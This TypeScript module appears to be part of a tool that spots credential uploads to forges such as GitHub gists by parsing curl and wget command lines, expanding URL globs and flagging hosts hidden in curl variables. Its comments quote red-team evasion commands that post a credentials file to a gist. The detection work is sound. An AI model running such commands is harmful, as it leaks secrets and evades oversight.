/**
 * The URL a generic uploader (curl, wget, httpie) sends to, when it is a forge's or registry's: the first
 * `--url` value or positional that names one, with or without its scheme (curl and wget take
 * `api.github.com/gists`, also fully qualified, `api.github.com./gists`); else one whose host is a curl variable
 * (host null). Interpreted for ./recognize.ts.
 */
import { type ParsedArgv, urlHost } from './argv.js';
import type { UploadTargetTest } from './recognize.js';
import type { UploadMatcher } from './types.js';

/** How many URLs one globbed word may stand for here; curl's own limit is far higher, an evasion needs few. */
const MAX_GLOB_URLS = 64;
/** How many values of one `[a-z]`/`[1-100]` range are tried. */
const MAX_RANGE_VALUES = 40;

export function firstUploadUrl(
  parsed: ParsedArgv,
  isUploadTarget: UploadTargetTest,
  m: Pick<UploadMatcher, 'urlGlobs' | 'urlFlags' | 'urlVariables'>,
): { word: string; host: string | null } | null {
  const candidates = urlWords(parsed, m.urlFlags);
  const globs = m.urlGlobs === true && !parsed.flags.some((f) => f.flag === '-g' || f.flag === '--globoff');
  for (const word of candidates) {
    for (const url of globs ? expandUrlGlob(word) : [word]) {
      const u = clientUrlHost(url);
      if (u && isUploadTarget(u.host, u.path)) return { word, host: u.host };
    }
  }
  const hidden = m.urlVariables === true ? hostHiddenUrl(parsed) : null;
  return hidden !== null ? { word: hidden, host: null } : null;
}

/** A URL's host and path as curl and wget take it: with its scheme, or without (`api.github.com/gists`). */
export function clientUrlHost(url: string): { host: string; path: string } | null {
  return urlHost(url) ?? (/^[a-z0-9-]+(\.[a-z0-9-]+)+\.?(:\d+)?\//i.test(url) ? urlHost(`https://${url}`) : null);
}

/** The words that may be the URL: the URL flags' values (curl's `--url` unless given), then the positionals. */
export function urlWords(parsed: ParsedArgv, urlFlags: readonly string[] = ['--url']): string[] {
  return [
    ...parsed.flags.filter((f) => urlFlags.includes(f.flag) && f.value).map((f) => f.value!),
    ...parsed.positionals,
  ];
}

/**
 * curl's `--expand-url` with a `{{variable}}` in the URL's host (`--variable %H` from the environment, `H@FILE` from
 * a file; curl ≥ 8.3): argv does not say where it goes (red-team review: `--variable H@/tmp/h --expand-url
 * https://{{H}}/gists -d @creds` raised nothing). The URL's word, its host unknown: such a push is judged on where
 * it connected, as a cut curl's is (../correlate/judge.ts).
 */
function hostHiddenUrl(parsed: ParsedArgv): string | null {
  if (!parsed.flags.some((f) => f.flag === '--expand-url')) return null;
  return urlWords(parsed, ['--url']).find((w) => /^(?:[a-z][a-z0-9+.-]*:\/\/)?[^/]*\{\{/i.test(w)) ?? null;
}

/**
 * The URLs curl's globbing makes of a word: `{a,b}` each alternative, `[a-z]`/`[1-9]`/`[01-10:2]` each value of the
 * range (the first MAX_RANGE_VALUES), at most MAX_GLOB_URLS in all. Found by red-team review: `curl -d @creds
 * https://api.git{hub}.com/gists` (or `api.github.[c-c]om`) reached the forge, and was no push. A `\` before a
 * bracket or brace keeps it literal, as in curl; a word with no glob is itself.
 */
export function expandUrlGlob(word: string): string[] {
  if (!/[[{]/.test(word)) return [word];
  let urls = [''];
  let i = 0;
  while (i < word.length) {
    const c = word[i]!;
    if (c === '\\' && i + 1 < word.length && '[]{}'.includes(word[i + 1]!)) {
      urls = urls.map((u) => u + word[i + 1]);
      i += 2;
      continue;
    }
    const close = c === '{' ? word.indexOf('}', i) : c === '[' ? word.indexOf(']', i) : -1;
    const values =
      close < 0 ? null : c === '{' ? word.slice(i + 1, close).split(',') : rangeValues(word.slice(i + 1, close));
    if (values === null) {
      urls = urls.map((u) => u + c);
      i++;
      continue;
    }
    urls = urls.flatMap((u) => values.map((v) => u + v)).slice(0, MAX_GLOB_URLS);
    i = close + 1;
  }
  return urls;
}

/** `a-z`, `0-9`, `001-100`, with an optional `:step`; null for what curl does not take as a range (an IPv6 address). */
function rangeValues(spec: string): string[] | null {
  const m = /^(?:([a-zA-Z])-([a-zA-Z])|(\d+)-(\d+))(?::(\d+))?$/.exec(spec);
  if (m === null) return null;
  const step = Math.max(1, Number(m[5] ?? 1));
  const values: string[] = [];
  if (m[1] !== undefined) {
    for (let c = m[1].charCodeAt(0); c <= m[2]!.charCodeAt(0) && values.length < MAX_RANGE_VALUES; c += step)
      values.push(String.fromCharCode(c));
  } else {
    const width = m[3]!.startsWith('0') ? m[3]!.length : 0;
    for (let n = Number(m[3]); n <= Number(m[4]) && values.length < MAX_RANGE_VALUES; n += step)
      values.push(String(n).padStart(width, '0'));
  }
  return values.length > 0 ? values : null;
}
